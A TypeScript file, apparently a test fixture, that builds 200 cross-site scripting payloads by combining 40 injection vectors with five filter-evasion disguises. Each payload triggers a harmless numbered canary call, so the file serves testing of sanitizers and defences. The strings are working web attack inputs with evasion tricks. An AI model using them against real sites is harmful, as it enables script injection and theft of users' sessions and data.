/** Each calls `ran` with its number where the page takes it for anything but text. `RUN` stands for that call. */
const vectors = [
  "<script>RUN</script>",
  "<img src=x onerror=RUN>",
  "<svg onload=RUN>",
  "<svg/onload=RUN//",
  "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
  "<body onload=RUN>",
  "<details open ontoggle=RUN>",
  "<video><source onerror=RUN></video>",
  "<audio src=x onerror=RUN>",
  "<input autofocus onfocus=RUN>",
  "<select autofocus onfocus=RUN>",
  "<marquee onstart=RUN>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
  "<a href=javascript:RUN>x</a>",
  "<object data=javascript:RUN>",
  "<embed src=javascript:RUN>",
  "<form action=javascript:RUN><button>x",
  "<link rel=stylesheet href=//canary.invalid/x.css onerror=RUN>",
  "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
  "<base href=//canary.invalid/>",
  "<template><script>RUN</script></template>",
  "<style>@import '//canary.invalid/x.css'</style>",
  "<div style=\"background:url('//canary.invalid/x')\">x",
  "<img src=//canary.invalid/pixel>",
  "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
  '"><img src=x onerror=RUN>',
  "'><svg onload=RUN>",
  '" autofocus onfocus=RUN x="',
  "</title><script>RUN</script>",
  "</textarea><svg onload=RUN>",
  "</script><script>RUN</script>",
  "--><svg onload=RUN>",
  "]]><svg onload=RUN>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of the texts that want to be more.
  "${RUN}",
  "{{constructor.constructor('RUN')()}}",
  "javascript:RUN",
  "data:text/html,<script>RUN</script>",
  'http://x.invalid/"onmouseover=RUN//',
  "https://x.invalid/'><img src=x onerror=RUN>",
  "https://x.invalid/#<svg onload=RUN>",
] as const;

/** Ways to write a vector so that a filter that looks for it would miss it. */
const disguises: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => vector.toUpperCase().replaceAll("RUN", "run").replaceAll("RAN", "ran"),
  (vector) => vector.replace("<", "<\u0000").replace("javascript:", "java\tscript:"),
  (vector) => vector.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (vector) => `https://x.invalid/?q=${vector}&r=javascript:RUN`,
];

/** Two hundred texts that want to be more than text. */
export const xssPayloads: readonly string[] = disguises.flatMap((disguise, row) =>
  vectors.map((vector, column) => {
    const run = `ran(${row * vectors.length + column})`;
    return disguise(vector).replaceAll(/run/gi, run);
  }),
);
